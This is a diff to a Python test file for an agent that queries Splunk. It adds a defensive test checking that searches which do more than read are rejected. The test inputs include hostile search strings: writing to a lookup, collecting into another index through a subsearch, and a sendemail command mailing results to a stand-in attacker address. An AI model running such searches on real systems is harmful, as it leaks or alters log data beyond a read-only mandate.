@@ -11,7 +11,7 @@ from bot.domain.window import TimeWindow
 from bot.engine.caps import Caps
 from bot.engine.deployments import Deployment
 from bot.engine.follow_up import Asked, FollowUp
-from bot.errors import SearchOutOfBounds, StoreError
+from bot.errors import SearchOutOfBounds, StoreError, UnsafeSearch
 from bot.ports import FollowUpBrief, Observer
 from bot.summary.tool import report_by_rules
 from tests.agent.runs import chain
@@ -23,9 +23,11 @@ WINDOW = TimeWindow(earliest=0, latest=60)
 class Searcher(FakeAgent):
     """Searches once, after a look at what the run has under each id."""
 
+    spl = "index=web | stats count by host"
+
     async def answer(self, brief: FollowUpBrief, tell: Observer) -> Interpretation:
         self.questions.append(brief)
-        found = await brief.look.search("index=web | stats count by host", "-1h", "now")
+        found = await brief.look.search(self.spl, "-1h", "now")
         return Interpretation(text="so", evidence=(found.evidence.id,), doubt=None)
 
 
@@ -83,3 +85,20 @@ async def test_only_the_indexes_that_the_settings_leave_to_a_model_are_searched(
     assert (await answer(Searcher(), indexes=("web*",))).searches
     with pytest.raises(SearchOutOfBounds, match="web"):
         await answer(Searcher(), indexes=("app_*", "_internal"))
+
+
+@pytest.mark.parametrize(
+    "spl",
+    [
+        "index=web | outputlookup users.csv",
+        "index=web [search index=web | ```so``` collect index=main]",
+        "index=web `a_macro`",
+        'index=web | sendemail to="a@evil.example"',
+        "index=web " + "x" * 5000,
+    ],
+)
+async def test_a_model_that_obeys_a_question_sends_no_search_that_does_more_than_read(spl: str) -> None:
+    agent = Searcher()
+    agent.spl = spl
+    with pytest.raises(UnsafeSearch):
+        await answer(agent)
